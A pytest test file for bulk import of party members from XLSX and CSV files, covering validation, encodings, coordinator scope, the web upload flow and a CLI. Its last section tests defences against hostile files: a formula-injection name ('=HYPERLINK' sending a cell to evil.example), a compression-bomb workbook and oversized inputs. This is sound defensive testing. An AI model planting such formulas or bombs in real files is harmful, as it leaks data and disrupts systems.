"""Bulk import of members from XLSX and CSV: the service, the web flow and the CLI."""

import csv
import io
import random
import re
import tracemalloc
import zipfile
from datetime import date, datetime

import pytest
import sqlalchemy as sa
from openpyxl import Workbook, load_workbook

from app.accounts.importing import COLUMNS, import_members
from app.accounts.models import BranchPosition, Gender, ImportJob, MemberCategory, Role, User
from app.core.models import AuditEntry
from app.extensions import db
from tests.helpers import config_set, count

HEADER = COLUMNS  # 工号 姓名 手机号 所属组织 性别 人员类别 入党日期 党内职务 出生日期 学历
A1_PATH = "公司党委/机关党总支/机关第一党支部"


def row(n: int, branch: str = A1_PATH, **fields) -> list:
    values = {
        "工号": f"IMP{n:04d}",
        "姓名": f"导入成员{n}",
        "手机号": f"1350000{n:04d}",
        "所属组织": branch,
        "性别": "女",
        "人员类别": "正式党员",
        "入党日期": "2012-07-01",
        "党内职务": "党员",
    }
    values.update(fields)
    return [values.get(column, "") for column in HEADER]


def write_xlsx(path, rows) -> object:
    wb = Workbook()
    for r in rows:
        wb.active.append(r)
    wb.save(path)
    return path


def write_csv(path, rows, encoding="utf-8-sig") -> object:
    with open(path, "w", newline="", encoding=encoding) as out:
        csv.writer(out).writerows(rows)
    return path


def run_import(path, actor=None):
    report = import_members(path, path.name, actor)
    db.session.commit() if report.ok else db.session.rollback()
    db.session.expire_all()
    return report


def imported(employee_no: str) -> User | None:
    return db.session.scalars(sa.select(User).where(User.employee_no == employee_no)).first()


def users_total() -> int:
    return count(User)


# --- what a valid file does ---------------------------------------------------------------------


def test_valid_xlsx_creates_members_with_their_profile(tmp_path, org_tree):
    path = write_xlsx(
        tmp_path / "members.xlsx",
        [
            HEADER,
            row(1),
            row(
                2,
                branch="机关第二党支部",
                性别="男",
                人员类别="预备党员",
                党内职务="书记",
                入党日期="2024/3/5",
            ),
            row(3, branch="生产运行党支部", 人员类别="入党积极分子", 党内职务="", 入党日期="", 性别=""),
        ],
    )
    report = run_import(path)
    assert report.ok, (report.message, report.errors)
    assert (report.total_rows, report.created, report.updated) == (3, 3, 0)

    first, second, third = imported("IMP0001"), imported("IMP0002"), imported("IMP0003")
    assert first.name == "导入成员1"
    assert first.mobile == "13500000001"
    assert first.branch_id == org_tree["a1"].id
    assert first.gender == Gender.FEMALE
    assert first.category == MemberCategory.FULL
    assert first.position == BranchPosition.MEMBER
    assert first.joined_party_on == date(2012, 7, 1)
    assert first.roles == {Role.MEMBER}
    assert first.password_hash is None
    assert first.must_change_password
    assert second.branch_id == org_tree["a2"].id
    assert (second.gender, second.category, second.position) == (
        Gender.MALE,
        MemberCategory.PROBATIONARY,
        BranchPosition.SECRETARY,
    )
    assert second.joined_party_on == date(2024, 3, 5)
    assert third.branch_id == org_tree["b1"].id
    assert (third.gender, third.position, third.joined_party_on) == (None, None, None)


def test_imported_member_logs_in_with_the_activation_code(client, tmp_path, org_tree):
    report = run_import(write_xlsx(tmp_path / "m.xlsx", [HEADER, row(7)]))
    assert client.post("/login", data={"identifier": "IMP0007", "password": "000007"}).status_code == 401
    code = report.activation_codes["IMP0007"]
    response = client.post("/login", data={"identifier": "IMP0007", "password": code})
    assert response.status_code == 302
    assert client.get("/").headers["Location"] == "/account/password"


def test_excel_numbers_and_dates_are_read_as_text(tmp_path, org_tree):
    """Excel stores a typed-in mobile as a number and a date as a date: both must still import."""
    path = write_xlsx(
        tmp_path / "typed.xlsx",
        [HEADER, [10086, "数字工号", 13500000099, A1_PATH, "男", "正式党员", datetime(2001, 7, 1), "委员"]],
    )
    report = run_import(path)
    assert report.ok, report.errors
    member = imported("10086")
    assert member.mobile == "13500000099"
    assert member.joined_party_on == date(2001, 7, 1)


def test_columns_may_come_in_any_order_and_optional_ones_may_be_left_out(tmp_path, org_tree):
    path = write_csv(
        tmp_path / "short.csv",
        [["姓名", "所属组织", "手机号", "工号"], ["简表", A1_PATH, "13500001234", "IMP0100"]],
    )
    assert run_import(path).ok
    assert imported("IMP0100").name == "简表"


def test_reimport_updates_by_employee_number_instead_of_duplicating(tmp_path, org_tree):
    run_import(write_xlsx(tmp_path / "first.xlsx", [HEADER, row(1), row(2)]))
    before = users_total()
    report = run_import(
        write_xlsx(
            tmp_path / "second.xlsx",
            [HEADER, row(1, 姓名="改名了", branch="生产运行党支部", 人员类别="预备党员"), row(2), row(3)],
        )
    )
    assert report.ok, report.errors
    assert (report.created, report.updated) == (1, 2)
    assert users_total() == before + 1
    assert count(User, User.employee_no == "IMP0001") == 1
    renamed = imported("IMP0001")
    assert renamed.name == "改名了"
    assert renamed.branch_id == org_tree["b1"].id
    assert renamed.category == MemberCategory.PROBATIONARY
    assert renamed.roles == {Role.MEMBER}


def test_reimport_keeps_a_password_the_member_already_set(client, tmp_path, org_tree):
    code = run_import(write_xlsx(tmp_path / "first.xlsx", [HEADER, row(1)])).activation_codes["IMP0001"]
    client.post("/login", data={"identifier": "IMP0001", "password": code})
    client.post(
        "/account/password",
        data={"current_password": code, "new_password": "Mine-2026x", "confirm": "Mine-2026x"},
    )
    client.post("/logout")
    run_import(write_xlsx(tmp_path / "again.xlsx", [HEADER, row(1, 姓名="再次导入")]))
    assert client.post("/login", data={"identifier": "IMP0001", "password": "Mine-2026x"}).status_code == 302
    assert client.get("/").status_code == 200


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-8", "gbk"])
def test_csv_in_the_encodings_excel_writes(tmp_path, org_tree, encoding):
    path = write_csv(
        tmp_path / f"{encoding}.csv", [HEADER, row(1), row(2, 姓名="欧阳晓燕")], encoding=encoding
    )
    report = run_import(path)
    assert report.ok, (report.message, report.errors)
    assert imported("IMP0002").name == "欧阳晓燕"
    assert imported("IMP0001").branch_id == org_tree["a1"].id


def test_blank_rows_are_skipped_and_rows_are_counted_by_spreadsheet_number(tmp_path, org_tree):
    path = write_csv(tmp_path / "gaps.csv", [HEADER, row(1), ["", "", ""], row(2, 手机号="123")])
    report = run_import(path)
    assert report.errors == [
        {"row": 4, "field": "手机号", "message": "手机号「123」格式不正确，应为 11 位大陆手机号"}
    ]


# --- files that write nothing -------------------------------------------------------------------


def test_missing_column_is_a_file_level_message(tmp_path, org_tree):
    header = [c for c in HEADER if c != "手机号"]
    path = write_xlsx(
        tmp_path / "nomobile.xlsx", [header, ["IMP0001", "张三", A1_PATH, "男", "正式党员", "", "党员"]]
    )
    before = users_total()
    report = run_import(path)
    assert not report.ok
    assert "表头缺少必需的列：手机号" in report.message
    assert report.errors == []
    assert users_total() == before


def test_bad_mobile_numbers_are_reported_per_row_and_nothing_is_written(tmp_path, org_tree):
    path = write_xlsx(
        tmp_path / "badmobile.xlsx",
        [
            HEADER,
            row(1),
            row(2, 手机号="1380013800"),
            row(3),
            row(4, 手机号="23800138000"),
            row(5, 手机号=""),
        ],
    )
    before = users_total()
    report = run_import(path)
    assert not report.ok
    assert [(e["row"], e["field"]) for e in report.errors] == [(3, "手机号"), (5, "手机号"), (6, "手机号")]
    assert "1380013800" in report.errors[0]["message"]
    assert report.errors[2]["message"] == "手机号不能为空"
    assert users_total() == before
    assert imported("IMP0001") is None


def test_duplicate_employee_numbers_in_the_file_name_both_rows(tmp_path, org_tree):
    path = write_xlsx(tmp_path / "dup.xlsx", [HEADER, row(1), row(2), row(3, 工号="IMP0001")])
    before = users_total()
    report = run_import(path)
    assert not report.ok
    assert len(report.errors) == 1
    error = report.errors[0]
    assert error["row"] == 4
    assert error["field"] == "工号"
    assert "IMP0001" in error["message"]
    assert "第 2 行" in error["message"]
    assert users_total() == before


def test_duplicate_mobile_in_the_file_or_owned_by_someone_else(tmp_path, org_tree, create_user):
    create_user(employee_no="OTHER1", mobile="13900000001")
    path = write_xlsx(
        tmp_path / "dupmobile.xlsx",
        [HEADER, row(1), row(2, 手机号="13500000001"), row(3, 手机号="13900000001")],
    )
    report = run_import(path)
    assert [(e["row"], e["field"]) for e in report.errors] == [(3, "手机号"), (4, "手机号")]
    assert "第 2 行" in report.errors[0]["message"]
    assert "OTHER1" in report.errors[1]["message"]
    assert imported("IMP0001") is None


def test_unknown_or_ambiguous_branch_is_reported(tmp_path, org_tree, create_branch):
    create_branch("第一党支部", org_tree["a"])
    create_branch("第一党支部", org_tree["b"])
    path = write_xlsx(
        tmp_path / "branches.xlsx",
        [
            HEADER,
            row(1, branch="不存在的党支部"),
            row(2, branch="第一党支部"),
            row(3, branch="公司党委/生产党总支/第一党支部"),
            row(4, branch=""),
        ],
    )
    report = run_import(path)
    messages = {e["row"]: e["message"] for e in report.errors}
    assert set(messages) == {2, 3, 5}
    assert messages[2] == "找不到组织「不存在的党支部」"
    assert "有多个组织名为「第一党支部」" in messages[3]
    assert messages[5] == "所属组织不能为空"
    assert imported("IMP0003") is None


def test_bad_choices_and_dates_are_reported(tmp_path, org_tree):
    path = write_xlsx(
        tmp_path / "choices.xlsx",
        [
            HEADER,
            row(1, 性别="未知", 人员类别="党员", 党内职务="主席", 入党日期="去年"),
            row(2, 入党日期="2999-01-01"),
        ],
    )
    report = run_import(path)
    fields = [(e["row"], e["field"]) for e in report.errors]
    assert fields == [(2, "性别"), (2, "人员类别"), (2, "党内职务"), (2, "入党日期"), (3, "入党日期")]
    assert "可选：正式党员、预备党员" in report.errors[1]["message"]


def test_missing_name_and_bad_employee_number(tmp_path, org_tree):
    path = write_xlsx(tmp_path / "names.xlsx", [HEADER, row(1, 姓名=""), row(2, 工号="E 2"), row(3, 工号="")])
    report = run_import(path)
    assert [(e["row"], e["field"]) for e in report.errors] == [(2, "姓名"), (3, "工号"), (4, "工号")]
    assert report.errors[0]["message"] == "姓名不能为空"


@pytest.mark.parametrize("name", ["empty.xlsx", "empty.csv"])
def test_empty_file(tmp_path, org_tree, name):
    path = tmp_path / name
    path.write_bytes(b"")
    before = users_total()
    report = run_import(path)
    assert report.message == "文件是空的，请使用模板填写后再上传。"
    assert users_total() == before


@pytest.mark.parametrize("writer", [write_xlsx, write_csv])
def test_header_only_file(tmp_path, org_tree, writer):
    path = writer(tmp_path / ("header." + ("xlsx" if writer is write_xlsx else "csv")), [HEADER])
    report = run_import(path)
    assert report.message == "文件中没有成员数据（只有表头）。"


def test_workbook_without_any_cell(tmp_path, org_tree):
    path = write_xlsx(tmp_path / "blank.xlsx", [])
    assert run_import(path).message == "文件是空的，请使用模板填写后再上传。"


def test_pdf_renamed_to_xlsx(tmp_path, org_tree):
    path = tmp_path / "members.xlsx"
    path.write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n%%EOF\n")
    before = users_total()
    report = run_import(path)
    assert "不是有效的 Excel (.xlsx) 文件" in report.message
    assert users_total() == before


def test_zip_that_is_not_a_workbook(tmp_path, org_tree):
    path = tmp_path / "archive.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("readme.txt", "not a spreadsheet")
    assert "不是有效的 Excel (.xlsx) 文件" in run_import(path).message


def test_random_bytes_named_csv(tmp_path, org_tree):
    path = tmp_path / "noise.csv"
    path.write_bytes(random.Random(7).randbytes(4096))
    before = users_total()
    report = run_import(path)
    assert report.message == "无法读取文件：它不是文本格式的 CSV 文件。"
    assert users_total() == before


def test_binary_without_nul_bytes_named_csv(tmp_path, org_tree):
    """Bytes that no text encoding explains get a clear message too, not a crash."""
    path = tmp_path / "latin.csv"
    path.write_bytes(bytes(range(0x80, 0x100)) * 8)
    report = run_import(path)
    assert report.message == "无法识别 CSV 文件的编码，请另存为 UTF-8 或 GBK 编码。"


def test_other_file_types_are_refused(tmp_path, org_tree):
    path = tmp_path / "members.txt"
    path.write_text("工号,姓名\n")
    assert run_import(path).message == "只支持 .xlsx 或 .csv 文件，请下载模板填写。"


# --- coordinator scope --------------------------------------------------------------------------


def test_coordinator_imports_into_their_subtree_only(tmp_path, org_tree, create_user):
    coordinator = create_user("coordinator", branch=org_tree["a"])
    path = write_xlsx(tmp_path / "scope.xlsx", [HEADER, row(1), row(2, branch="生产运行党支部")])
    report = run_import(path, actor=coordinator)
    assert report.errors == [{"row": 3, "field": "所属组织", "message": "您无权向「生产运行党支部」导入成员"}]
    assert imported("IMP0001") is None

    report = run_import(
        write_xlsx(tmp_path / "ok.xlsx", [HEADER, row(1), row(2, branch="机关第二党支部")]), coordinator
    )
    assert report.ok


def test_coordinator_cannot_take_over_a_member_of_another_branch_by_reimporting(
    tmp_path, org_tree, create_user
):
    outsider = create_user("member", branch=org_tree["b1"], employee_no="B1MEMBER", name="生产成员")
    coordinator = create_user("coordinator", branch=org_tree["a"])
    path = write_xlsx(tmp_path / "takeover.xlsx", [HEADER, row(1, 工号="B1MEMBER", 姓名="被改名")])
    report = run_import(path, actor=coordinator)
    assert not report.ok
    assert report.errors[0]["row"] == 2
    assert report.errors[0]["field"] == "工号"
    outsider = db.session.get(User, outsider.id)
    assert outsider.name == "生产成员"
    assert outsider.branch_id == org_tree["b1"].id


def test_member_cannot_import(tmp_path, org_tree, create_user):
    member = create_user("member", branch=org_tree["a1"])
    report = run_import(write_xlsx(tmp_path / "m.xlsx", [HEADER, row(1)]), actor=member)
    assert report.message == "您无权导入成员。"


# --- the web flow -------------------------------------------------------------------------------


def upload(client, path, filename=None):
    with open(path, "rb") as handle:
        return client.post(
            "/users/import",
            data={"file": (handle, filename or path.name)},
            content_type="multipart/form-data",
        )


def test_template_download_opens_with_the_expected_header(client, login_as, org_tree):
    login_as("coordinator", branch=org_tree["a"])
    response = client.get("/users/import/template.xlsx")
    assert response.status_code == 200
    assert "attachment" in response.headers["Content-Disposition"]
    wb = load_workbook(io.BytesIO(response.data))
    header = [cell.value for cell in wb.worksheets[0][1]]
    assert header == [
        "工号", "姓名", "手机号", "所属组织", "性别", "人员类别", "入党日期", "党内职务", "出生日期", "学历",
    ]  # fmt: skip


def test_filled_in_template_imports(client, login_as, org_tree, tmp_path):
    login_as("admin")
    wb = load_workbook(io.BytesIO(client.get("/users/import/template.xlsx").data))
    wb.worksheets[0].append(row(1))
    wb.save(tmp_path / "filled.xlsx")
    response = upload(client, tmp_path / "filled.xlsx")
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "导入完成：共 2 行，新增 2 人" in page  # the example row of the template and ours


def test_web_import_runs_the_job_and_shows_the_result(client, login_as, org_tree, tmp_path):
    login_as("coordinator", branch=org_tree["a"])
    response = upload(client, write_xlsx(tmp_path / "members.xlsx", [HEADER, row(1), row(2)]))
    assert response.status_code == 302
    job_url = response.headers["Location"]
    assert re.fullmatch(r"/users/import/\d+", job_url)
    page = client.get(job_url).get_data(as_text=True)
    assert 'data-testid="import-done"' in page
    assert "导入完成：共 2 行，新增 2 人，更新 0 人。" in page
    status = client.get(job_url + "?format=json").get_json()
    assert status == {
        "success": True,
        "data": {
            "status": "done",
            "percent": 100,
            "processed": 2,
            "total": 2,
            "finished": True,
            "message": None,
        },
    }
    db.session.expire_all()
    assert imported("IMP0002").branch_id == org_tree["a1"].id
    job = db.session.get(ImportJob, int(job_url.rsplit("/", 1)[1]))
    assert count(AuditEntry, AuditEntry.action == "user.import", AuditEntry.target_id == job.id) == 1
    assert "members.xlsx" in client.get("/users/import").get_data(as_text=True)


def test_web_import_of_a_bad_file_shows_the_row_report(client, login_as, org_tree, tmp_path):
    login_as("coordinator", branch=org_tree["a"])
    before = users_total()
    response = upload(client, write_xlsx(tmp_path / "bad.xlsx", [HEADER, row(1), row(2, 手机号="12345")]))
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert 'data-testid="import-rejected"' in page
    assert "<td>3</td><td>手机号</td>" in page
    assert "12345" in page
    assert users_total() == before


def test_web_import_of_a_pdf_says_why(client, login_as, org_tree, tmp_path):
    login_as("coordinator", branch=org_tree["a"])
    path = tmp_path / "renamed.xlsx"
    path.write_bytes(b"%PDF-1.4\n" + bytes(200))
    response = upload(client, path)
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "不是有效的 Excel (.xlsx) 文件" in page
    job = db.session.scalars(sa.select(ImportJob).order_by(ImportJob.id.desc())).first()
    assert job.status == "rejected"


def test_web_import_refuses_a_text_file_before_creating_a_job(client, login_as, org_tree, tmp_path):
    login_as("coordinator", branch=org_tree["a"])
    path = tmp_path / "members.txt"
    path.write_text("工号,姓名\n")
    jobs = count(ImportJob)
    response = upload(client, path)
    assert response.status_code == 422
    assert "只支持 .xlsx 或 .csv 文件" in response.get_data(as_text=True)
    assert count(ImportJob) == jobs


def test_web_import_without_a_file(client, login_as, org_tree):
    login_as("coordinator", branch=org_tree["a"])
    response = client.post("/users/import", data={}, content_type="multipart/form-data")
    assert response.status_code == 422
    assert "请选择要导入的文件" in response.get_data(as_text=True)


def test_import_jobs_are_private_to_their_owner_and_admins(
    client, login_as, create_user, login, org_tree, tmp_path
):
    login_as("coordinator", branch=org_tree["a"])
    job_url = upload(client, write_xlsx(tmp_path / "m.xlsx", [HEADER, row(1)])).headers["Location"]
    client.post("/logout")
    login_as("coordinator", branch=org_tree["b"])
    assert client.get(job_url).status_code == 403
    client.post("/logout")
    login_as("admin")
    assert client.get(job_url).status_code == 200
    assert client.get("/users/import/999999").status_code == 404


# --- the CLI ------------------------------------------------------------------------------------


def test_cli_import(runner, org_tree, tmp_path):
    path = write_csv(tmp_path / "cli.csv", [HEADER, row(1), row(2)], encoding="gbk")
    result = runner.invoke(args=["users", "import", str(path)])
    assert result.exit_code == 0, result.output
    assert "导入完成：共 2 行，新增 2，更新 0。" in result.output
    db.session.expire_all()
    assert imported("IMP0001") is not None


def test_cli_import_of_a_bad_file_exits_non_zero_and_writes_nothing(runner, org_tree, tmp_path):
    path = write_xlsx(tmp_path / "bad.xlsx", [HEADER, row(1), row(2, 工号="IMP0001")])
    before = users_total()
    result = runner.invoke(args=["users", "import", str(path)])
    assert result.exit_code == 1
    assert "第 3 行 [工号]" in result.output
    assert "未导入任何数据" in result.output
    assert users_total() == before


def test_cli_import_of_a_missing_file(runner):
    result = runner.invoke(args=["users", "import", "/no/such/file.xlsx"])
    assert result.exit_code != 0
    assert "does not exist" in result.output


# --- hostile files (findings 4 and 5) -----------------------------------------------------------


def import_peak(path, actor=None):
    """The report of importing ``path`` and the peak memory the import took."""
    tracemalloc.start()
    try:
        report = import_members(path, path.name, actor)
        return report, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
        db.session.rollback()


def test_finding5_a_forged_xlsx_dimension_imports_its_real_rows_in_bounded_memory(tmp_path, org_tree):
    from tests.core.test_spreadsheets import MEMORY_BOUND, forged_dimension_xlsx

    path = tmp_path / "forged.xlsx"
    path.write_bytes(forged_dimension_xlsx([HEADER, row(1)]))
    report, peak = import_peak(path)
    assert peak < MEMORY_BOUND
    assert report.message is None
    assert report.ok
    assert report.total_rows == 1  # the real row; the padding a forged dimension asks for is not read


def test_finding5_four_megabytes_of_newlines_in_bounded_memory(tmp_path, org_tree):
    from tests.core.test_spreadsheets import MEMORY_BOUND

    path = tmp_path / "newlines.csv"
    path.write_bytes(",".join(HEADER).encode() + b"\n" + b"\n" * (4 * 1024 * 1024))
    report, peak = import_peak(path)
    assert peak < MEMORY_BOUND
    assert report.message == "文件中没有成员数据（只有表头）。"


def test_finding5_a_huge_ratio_workbook_is_refused_with_a_message(tmp_path, org_tree):
    from tests.core.test_spreadsheets import MEMORY_BOUND, ratio_bomb_xlsx

    path = tmp_path / "bomb.xlsx"
    path.write_bytes(ratio_bomb_xlsx())
    report, peak = import_peak(path)
    assert peak < MEMORY_BOUND
    assert "压缩比异常" in report.message


def test_finding5_the_row_limit_is_a_setting_checked_while_reading(app, tmp_path, org_tree):
    path = write_csv(tmp_path / "many.csv", [HEADER] + [row(n) for n in range(1, 6)])
    with config_set(app, MEMBER_IMPORT_MAX_ROWS=3):
        report = run_import(path)
    assert report.message == "一次最多导入 3 行，本文件超过了这个数量，请拆分后分批导入。"
    assert imported("IMP0001") is None


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A3,"点击")', "+1", "-1", "@SUM(A1)"])
def test_finding4_names_that_a_spreadsheet_would_run_are_refused_per_row(tmp_path, org_tree, name):
    path = write_csv(tmp_path / "evil.csv", [HEADER, row(1), row(2, 姓名=name)])
    report = run_import(path)
    assert report.errors == [
        {"row": 3, "field": "姓名", "message": "姓名不能以 =、+、-、@、制表符或回车开头"}
    ]
    assert imported("IMP0001") is None


def test_finding4_a_tab_before_a_name_is_refused_too(tmp_path, org_tree):
    path = write_xlsx(tmp_path / "tab.xlsx", [HEADER, row(1, 姓名="\t=1+1")])
    # Cells are trimmed when read, so the tab itself goes; what is left still starts a formula.
    assert run_import(path).errors[0]["field"] == "姓名"


def test_web_import_answers_422_only_when_the_import_is_refused(client, login_as, org_tree, tmp_path):
    """As the question import does: the page 200, a refused file 422, an accepted one a redirect."""
    login_as("coordinator", branch=org_tree["a"])
    assert client.get("/users/import").status_code == 200
    (tmp_path / "members.txt").write_text("工号,姓名\n")
    refused = upload(client, tmp_path / "members.txt")
    assert refused.status_code == 422
    assert "只支持 .xlsx 或 .csv 文件" in refused.get_data(as_text=True)
    accepted = upload(client, write_xlsx(tmp_path / "members.xlsx", [HEADER, row(1)]))
    assert accepted.status_code == 302
